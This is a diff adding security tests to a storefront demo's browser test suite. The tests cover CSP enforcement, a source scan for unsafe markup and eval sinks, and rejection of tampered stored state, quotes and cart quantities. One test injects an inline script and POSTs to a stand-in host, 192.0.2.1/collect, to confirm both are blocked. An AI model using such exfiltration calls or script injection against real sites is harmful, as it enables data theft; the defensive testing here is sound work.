@@ -73,6 +73,12 @@ async function open(page, hash = '') {
   await page.waitForFunction(() => window.__demo?.ready === true, null, { timeout: 30000 });
 }
 
+/** A real page load (a goto that only changes the hash would not re-run the page's scripts). */
+async function reopen(page, hash = '') {
+  await page.goto('about:blank');
+  await open(page, hash);
+}
+
 /** Runs `action` and waits for the page's next render. */
 async function andRender(page, action) {
   const before = await page.evaluate(() => Number(document.body.dataset.rendered));
@@ -531,6 +537,149 @@ test('catalog text is rendered as text, never as markup', async () => {
     assert.equal(await page.textContent('.product .blurb'), evil.products[0].blurb);
     assert.equal(await page.locator('main img, main script').count(), 0);
     assert.equal(await page.evaluate(() => window.__xss), undefined);
+  });
+  // The same DOM builder renders explanations, labels and feature names: no HTML parser anywhere.
+  for (const file of ['app.js', 'art.js']) {
+    const src = readFileSync(join(ROOT, 'www', file), 'utf8');
+    assert.doesNotMatch(src, /innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function/, `${file} never parses strings as markup or code`);
+  }
+});
+
+test('CSP: the page runs pricelet under its Content-Security-Policy, and the policy blocks injected scripts and outside connections', async () => {
+  await withStore(async ({ page }) => {
+    await open(page, '#/');
+    // pricelet compiled and priced under the policy ('wasm-unsafe-eval' is the only allowance it needs).
+    assert.equal(await page.evaluate(() => window.__demo.pricer.status.model.state), 'ready');
+    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+    assert.match(csp, /default-src 'none'/);
+    assert.doesNotMatch(csp, /unsafe-inline|'unsafe-eval'|\*/, 'no blanket allowances');
+    const out = await page.evaluate(async () => {
+      const violations = [];
+      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+      const s = document.createElement('script');
+      s.textContent = 'window.__injected = 1';
+      document.body.append(s);
+      let fetched = 'no';
+      try { await fetch('http://192.0.2.1/collect', { method: 'POST', body: 'x' }); fetched = 'yes'; } catch { fetched = 'blocked'; }
+      await new Promise((r) => setTimeout(r, 50));
+      return { injected: window.__injected ?? null, fetched, violations };
+    });
+    assert.equal(out.injected, null, 'an injected inline script does not run');
+    assert.equal(out.fetched, 'blocked', 'a connection to another host is refused');
+    assert.ok(out.violations.some((d) => d.startsWith('script-src')), JSON.stringify(out.violations));
+    assert.ok(out.violations.some((d) => d.startsWith('connect-src')), JSON.stringify(out.violations));
+  }, { allowErrors: true });
+});
+
+test('tampering: hand-edited stored state is discarded or repaired with a reason, and pricing goes on', async () => {
+  const good = { type: 'page_view', at: HOOKS.now - 60_000, page: { kind: 'product', id: 'trail-runner', bounceRate: 0.01, exitRate: 0.02, pageValue: 6.5 }, category: 'shoes', dwellMs: 30_000 };
+  const state = (events, extra = {}) => JSON.stringify({ schema: 'pricelet/behaviour', version: 1, anonId: 'edited-id', events, ...extra });
+  const cases = [
+    ['garbage', '\u0000{{{ not json', 'discarded', /not valid JSON/, 0],
+    ['huge', state([good], { pad: 'x'.repeat(300 * 1024) }), 'discarded', /over the 262144-byte limit/, 0],
+    ['another app', JSON.stringify({ cart: [1, 2, 3] }), 'discarded', /not written by pricelet/, 0],
+    ['old schema', state([good], { version: 0 }), 'discarded', /unknown schema version 0/, 0],
+    ['newer schema', state([good], { version: 9 }), 'discarded', /newer/, 0],
+    ['broken structure', state('not a list'), 'discarded', /broken structure/, 0],
+    ['out-of-range values', state([good,
+      { ...good, page: { ...good.page, exitRate: 7 } },
+      { ...good, dwellMs: -5 },
+      { ...good, at: HOOKS.now + 365 * 86_400_000 },
+      { ...good, page: { ...good.page, kind: 'admin-hack' } },
+      { type: 'purchase', at: HOOKS.now - 1000, amount: '1e309', currency: 'EUR' }]), 'repaired', /dropped 5 stored event/, 1],
+  ];
+  await withStore(async ({ page, context }) => {
+    // A JSON file as a top-level page makes Chromium ask for /favicon.ico, which the demo has none of.
+    await context.route('**/favicon.ico', (route) => route.fulfill({ status: 204 }));
+    for (const [name, text, outcome, why, kept] of cases) {
+      // Edit storage from a page of the same origin without the storefront's scripts (an open
+      // storefront would save its own state over the edit when it is left).
+      await page.goto(`${server.url}/catalog.json`);
+      await page.evaluate((t) => {
+        localStorage.clear();
+        localStorage.setItem('demo:consent', 'granted');
+        localStorage.setItem('pricelet:behaviour', t);
+      }, text);
+      await open(page, '#/');
+      const status = await page.evaluate(() => window.__demo.pricer.status.state);
+      assert.equal(status.outcome, outcome, `${name}: ${JSON.stringify(status)}`);
+      assert.match(status.reason, why, name);
+      assert.equal(status.events, kept, `${name}: events kept`);
+      // Pricing goes on, and equals the package in Node for what survived.
+      assert.equal((await readProducts(page)).length, ITEMS.length, `${name}: every product is priced`);
+      await checkAgainstNode(page, `after ${name}`);
+      // The next save replaces the edited state with a valid one.
+      await advance(page, 5_000);
+      await go(page, '#/product/trail-runner');
+      const saved = JSON.parse(await page.evaluate(() => localStorage.getItem('pricelet:behaviour')));
+      assert.equal(saved.schema, 'pricelet/behaviour', `${name}: a valid state is written back`);
+      assert.equal(saved.events.length, kept + 1, `${name}: what survived plus the new page view`);
+    }
+  });
+});
+
+test('tampering: a hand-edited quote or quantity fails verifyQuote; checkout refuses it', async () => {
+  await withStore(async ({ page }) => {
+    await open(page, '#/about');
+    await click(page, '[data-consent="granted"]');
+    await advance(page, 40_000);
+    await go(page, '#/product/linen-throw');
+    // In the page: the genuine checkout payload verifies; each hand edit fails with a named problem.
+    const results = await page.evaluate(async () => {
+      const { pricer, lib, catalog } = window.__demo;
+      const item = catalog.products.find((p) => p.id === 'linen-throw');
+      const quote = lib.toCheckout(pricer.priceFor(item));
+      const now = window.PRICELET_TEST.now;
+      const check = async (q, opts = {}) => {
+        const r = await lib.verifyQuote(q, item, null, { now, ...opts });
+        return { ok: r.ok, codes: r.problems.map((p) => p.code) };
+      };
+      return {
+        discounted: quote.priceMinor < quote.listPriceMinor,
+        genuine: await check(quote),
+        cheaper: await check({ ...quote, priceMinor: quote.priceMinor - 100 }),
+        cheaperRehashed: await check({ ...quote, priceMinor: Math.floor(quote.listPriceMinor / 2), discountMinor: quote.listPriceMinor - Math.floor(quote.listPriceMinor / 2) }),
+        otherItem: await check({ ...quote, itemId: 'santoku-knife' }),
+        expired: await check(quote, { now: quote.expiresAt + 1 }),
+        tooMany: await check(quote, { quantity: 1000 }),
+      };
+    });
+    assert.ok(results.discounted, 'the browse earned a discount worth tampering with');
+    assert.deepEqual(results.genuine, { ok: true, codes: [] });
+    for (const name of ['cheaper', 'cheaperRehashed', 'otherItem', 'expired', 'tooMany']) {
+      assert.equal(results[name].ok, false, `${name} must not verify: ${JSON.stringify(results[name])}`);
+      assert.ok(results[name].codes.length > 0, `${name} names its problem`);
+    }
+    assert.ok(results.expired.codes.includes('expired'), JSON.stringify(results.expired));
+
+    // Through the UI: the shopper edits the cart in sessionStorage to a quantity over the policy's
+    // maxQuantityPerOrder; checkout shows the rejection and will not place the order.
+    await page.evaluate(() => sessionStorage.setItem('demo:cart', JSON.stringify({ 'linen-throw': 1000 })));
+    await reopen(page, '#/checkout');
+    await page.waitForFunction(() => document.querySelector('#verify-result')?.dataset.state !== 'pending');
+    assert.equal(await page.getAttribute('#verify-result', 'data-state'), 'failed');
+    assert.match(await page.textContent('#verify-result'), /maxQuantityPerOrder/);
+    assert.equal(await page.isDisabled('#place-order'), true);
+  });
+});
+
+test('tampering: a forced engine trap resets the engine; that call is list price, the next ones are as before', async () => {
+  await withStore(async ({ page }) => {
+    await open(page, '#/about');
+    await click(page, '[data-consent="granted"]');
+    await advance(page, 40_000);
+    await go(page, '#/');
+    const before = await pageQuotes(page);
+    const out = await page.evaluate(() => {
+      const { pricer } = window.__demo;
+      const resets = pricer.status.engineResets;
+      const trapped = pricer._forceTrap();
+      return { trapped, resets: pricer.status.engineResets - resets, events: pricer.status.events };
+    });
+    assert.deepEqual(out, { trapped: 'engine_reset', resets: 1, events: 1 }, 'reset once, the stored page view restored');
+    assert.deepEqual(await pageQuotes(page), before, 'the next calls price exactly as before the trap');
+    await go(page, '#/product/trail-runner');
+    await checkAgainstNode(page, 'after the reset');
   });
 });
 
